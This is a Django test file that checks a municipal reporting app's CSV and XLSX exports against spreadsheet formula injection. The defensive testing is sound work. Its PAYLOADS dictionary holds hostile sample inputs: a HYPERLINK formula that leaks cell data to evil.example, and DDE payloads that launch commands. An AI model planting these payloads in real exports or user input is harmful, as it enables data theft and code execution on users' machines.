"""No text a city user typed becomes a formula in any export: CSV cells are prefixed, XLSX cells are strings."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from funding.models import FundingApplication
from kiz.spreadsheets import FORMULA_TRIGGERS, inert_text
from reporting.controlling.models import Activity, ControllingReport, ReportState
from staffing.models import Post
from tests.factories import login_verified

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "post_title": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "pay_grade": "+1+cmd|' /C calc'!A0",
    "activity_title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "municipality": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def _poison(dortmund):
    posts = list(Post.objects.filter(plan__municipality=dortmund).order_by("pk"))
    posts[0].title = PAYLOADS["post_title"]
    posts[1].title = PAYLOADS["tab"]
    posts[2].pay_grade = PAYLOADS["pay_grade"]
    for post in posts:
        post.save()
    activities = list(Activity.objects.filter(report__municipality=dortmund).order_by("pk"))
    activities[0].title = PAYLOADS["activity_title"]
    activities[1].title = PAYLOADS["cr"]
    for activity in activities:
        activity.save()
    dortmund.name = PAYLOADS["municipality"]
    dortmund.save()


def _exports(dortmund):
    application = FundingApplication.objects.get(municipality=dortmund, funding_year=2025)
    report = ControllingReport.objects.get(municipality=dortmund, state=ReportState.SUBMITTED)
    plan = Post.objects.filter(plan__municipality=dortmund).first().plan
    for fmt in ("csv", "xlsx"):
        yield reverse("reporting:export_municipalities", kwargs={"fmt": fmt})
        for name in ("concepts_export", "controlling_export", "inbox_export", "state_export"):
            yield reverse(f"reporting:dashboards:{name}", kwargs={"fmt": fmt})
        yield reverse("reporting:dashboards:financing_plan_export", kwargs={"pk": application.pk, "fmt": fmt})
        yield reverse("reporting:dashboards:staff_plan_export", kwargs={"pk": plan.pk, "fmt": fmt})
        yield reverse("reporting:dashboards:activities_export", kwargs={"pk": report.pk, "fmt": fmt})


def _csv_cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def test_a_formula_payload_in_every_exported_text_field_comes_out_inert(dortmund_figures, dortmund, coordination):
    from django.test import Client

    _poison(dortmund)
    client = login_verified(Client(), coordination)
    seen_csv, seen_xlsx = set(), set()
    for url in _exports(dortmund):
        response = client.get(url)
        assert response.status_code == 200, url
        if url.endswith(".csv"):
            cells = _csv_cells(response.content)
            assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], url
            seen_csv |= {key for key, payload in PAYLOADS.items() if "'" + payload in cells}
        else:
            sheet = load_workbook(io.BytesIO(response.content)).active
            cells = [cell for row in sheet.iter_rows() for cell in row]
            assert not [c.coordinate for c in cells if c.data_type == "f"], url
            for cell in cells:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (url, cell.coordinate)
            # XML turns a carriage return into a line feed when the file is read back.
            values = [c.value.replace("\r", "\n") if isinstance(c.value, str) else c.value for c in cells]
            seen_xlsx |= {key for key, payload in PAYLOADS.items() if payload.replace("\r", "\n") in values}
    # Every payload reached at least one export in both formats, so the checks above did see it.
    assert seen_csv == set(PAYLOADS)
    assert seen_xlsx == set(PAYLOADS)


def test_numbers_and_dates_stay_numbers_and_dates(dortmund_figures, dortmund, editor, client_for):
    _poison(dortmund)
    response = client_for(editor).get(
        reverse("reporting:dashboards:staff_plan_export", kwargs={"pk": dortmund_figures.pk, "fmt": "xlsx"})
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet["C2"].value == 1 and sheet["C2"].data_type == "n"
    assert sheet["H2"].is_date and sheet["H2"].value.year == 2012
    csv_text = client_for(editor).get(
        reverse("reporting:dashboards:staff_plan_export", kwargs={"pk": dortmund_figures.pk, "fmt": "csv"})
    )
    # 110,000 € less the assistant's 20,000 €: the poisoned pay grade has no rate.
    assert csv_text.content.decode("utf-8-sig").splitlines()[-1] == "Summe;;2,50;;;;;;;;90000,00"


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_inert_text_prefixes_every_trigger(trigger):
    assert inert_text(f"{trigger}1+1") == f"'{trigger}1+1"


def test_inert_text_leaves_plain_text_and_non_text_alone():
    assert inert_text("Fachkraft = gut") == "Fachkraft = gut"
    assert inert_text(12) == 12
    assert inert_text(None) is None
